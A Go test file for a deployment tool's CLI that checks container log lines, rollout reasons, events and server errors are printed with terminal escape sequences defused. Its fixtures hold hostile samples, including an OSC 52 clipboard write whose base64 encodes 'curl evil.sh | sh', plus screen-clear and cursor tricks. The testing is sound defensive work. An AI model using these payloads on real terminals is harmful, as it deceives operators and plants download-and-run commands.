package cli

import (
	"bytes"
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/hatchery/hatchery/internal/api"
	"github.com/hatchery/hatchery/internal/client"
)

// hostileTail is a container's last log lines as an attacker would write
// them: OSC 52 (write the operator's clipboard), a clear screen and cursor
// home, a retitle, a CR that would overwrite its line, a bell.
var hostileTail = []string{
	"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\a",
	"\x1b[2J\x1b[Hall good, nothing failed\r",
	"\x1b]0;hatch: ok\x1b\\done\rFAKE",
}

// hostileReason is a failed rollout's reason quoting the container.
const hostileReason = "on local: exited with code 1: \x1b[1A\x1b[2KApplied."

// rawSequences are the parts of the payloads a terminal would act on; none
// may reach the output.
var rawSequences = []string{"\x1b]", "\x1b[2J", "\x1b[H", "\x1b[1A", "\x1b\\", "\a", "\r"}

func checkDefused(t *testing.T, what, out string, terminal bool, visible ...string) {
	t.Helper()
	for _, raw := range rawSequences {
		if strings.Contains(out, raw) {
			t.Errorf("%s: the output holds the raw sequence %q:\n%q", what, raw, out)
		}
	}
	if !terminal && strings.Contains(out, "\x1b") {
		t.Errorf("%s: the output holds an escape character:\n%q", what, out)
	}
	for _, v := range visible {
		if !strings.Contains(out, v) {
			t.Errorf("%s: the output lacks %q, the payload made visible:\n%s", what, v, out)
		}
	}
}

func hostileFailedEgg() api.EggStatus {
	bad := eggAt("web", 0, 1, "failed", "local")
	bad.Rollout.Reason, bad.Rollout.LogTail = hostileReason, hostileTail
	return bad
}

func TestHatchStatusShowsAContainersEscapeSequencesWithoutActingOnThem(t *testing.T) {
	isolate(t)
	f, c := newFakeAPI(t)
	f.statuses = []api.ProjectStatus{demoStatus(1, hostileFailedEgg())}
	t.Setenv(client.EnvServer, c.Server())
	t.Setenv(client.EnvToken, adminToken())
	code, stdout, stderr := run(t, "status", "demo")
	if code != 0 {
		t.Fatalf("exit %d, stderr %s", code, stderr)
	}
	checkDefused(t, "hatch status", stdout, false,
		`exited with code 1: \x1b[1A\x1b[2KApplied.`, `last log line: \x1b]0;hatch: ok\x1b\done\rFAKE`)
	if lines := strings.Count(stdout, "\n"); lines != 3 {
		t.Errorf("hatch status printed %d lines, want 3 (project, header, web):\n%s", lines, stdout)
	}
}

func TestApplyFollowShowsAFailingContainersLogTailEscaped(t *testing.T) {
	for _, terminal := range []bool{false, true} {
		f, c := newFakeAPI(t)
		f.steps = []api.Progress{{Resource: "egg/web", Action: "wait healthy", Status: "waiting", Message: "0/1: \x1b]52;c;eA==\a"}}
		f.statuses = []api.ProjectStatus{demoStatus(1, hostileFailedEgg(), eggAt("worker", 1, 1, "done", "local"))}
		var out bytes.Buffer
		d := testDeployer(c, &out)
		d.terminal = terminal
		err := d.deploy(context.Background(), testProject(t), deployOptions{namespace: "default", yes: true})
		if !errors.Is(err, errApplyFailed) {
			t.Fatalf("terminal %v: deploy = %v, want errApplyFailed", terminal, err)
		}
		checkDefused(t, "hatch apply", out.String(), terminal,
			`… egg/web: 0/1: \x1b]52;c;eA==\a`,
			`The rollout of web failed on local: exited with code 1: \x1b[1A\x1b[2KApplied.`,
			"  | \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\a\n",
			"  | \\x1b[2J\\x1b[Hall good, nothing failed\\r\n",
			"  | \\x1b]0;hatch: ok\\x1b\\done\\rFAKE\n")
	}
}

func TestALogLineWithNewlinesKeepsTheGutterOnEachLine(t *testing.T) {
	var out bytes.Buffer
	printFailure(&out, eggStatus{Project: "demo", Egg: "web", Detail: "on local: crashed",
		LogTail: []string{"panic: boom\r\n\tmain.go:12\nApplied: 3 changes."}})
	want := "  | panic: boom\n  | \tmain.go:12\n  | Applied: 3 changes.\n"
	if !strings.Contains(out.String(), want) {
		t.Fatalf("output:\n%s\nwant it to hold:\n%s", out.String(), want)
	}
}

func TestEventsShowAContainersWordsEscaped(t *testing.T) {
	var b strings.Builder
	printEvent(&b, api.Event{Time: time.Now(), Type: "rollout.failed", Project: "default/demo", Resource: "egg/web",
		Message: hostileReason + "\n" + hostileTail[0]})
	checkDefused(t, "hatch events", b.String(), false, `\x1b[1A\x1b[2KApplied.\n\x1b]52;c;`)
	if strings.Count(b.String(), "\n") != 1 {
		t.Errorf("an event takes more than one line:\n%s", b.String())
	}
}

func TestAnErrorFromTheServerIsPrintedEscaped(t *testing.T) {
	isolate(t)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		writeTestJSON(w, http.StatusBadRequest, map[string]string{"error": "bad_request", "message": "web: " + hostileTail[1]})
	}))
	t.Cleanup(srv.Close)
	t.Setenv(client.EnvServer, srv.URL)
	t.Setenv(client.EnvToken, adminToken())
	code, _, stderr := run(t, "status", "demo")
	if code == 0 {
		t.Fatal("status against a failing server exited 0")
	}
	checkDefused(t, "the error", stderr, false, `web: \x1b[2J\x1b[Hall good, nothing failed\r`)
}
